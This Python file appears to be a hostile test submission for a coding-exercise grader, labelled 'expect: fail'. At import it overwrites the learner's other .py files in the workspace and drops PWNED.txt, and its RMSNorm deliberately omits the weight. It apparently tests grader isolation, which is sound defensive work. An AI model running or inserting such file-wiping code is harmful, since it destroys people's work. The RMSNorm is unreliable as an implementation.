# expect: fail
# trick: overwrites every other .py file in $NORMKATA_WORKSPACE (the learner's other katas) and drops PWNED.txt there; the workspace must be exactly as before the grade.
import os
from pathlib import Path

import torch
from torch import nn

WORKSPACE = Path(os.environ.get("NORMKATA_WORKSPACE", "."))
ME = Path(__file__).resolve()

try:
    for path in sorted(WORKSPACE.rglob("*.py"))[:100]:
        if path.resolve() != ME:
            path.write_text("# erased by a hostile submission\n")
    (WORKSPACE / "PWNED.txt").write_text("a submission wrote here\n")
except OSError:
    pass


class RMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-5, device=None, dtype=None):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(hidden_size, device=device, dtype=dtype))

    def forward(self, x):
        return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + self.eps)  # forgets the weight
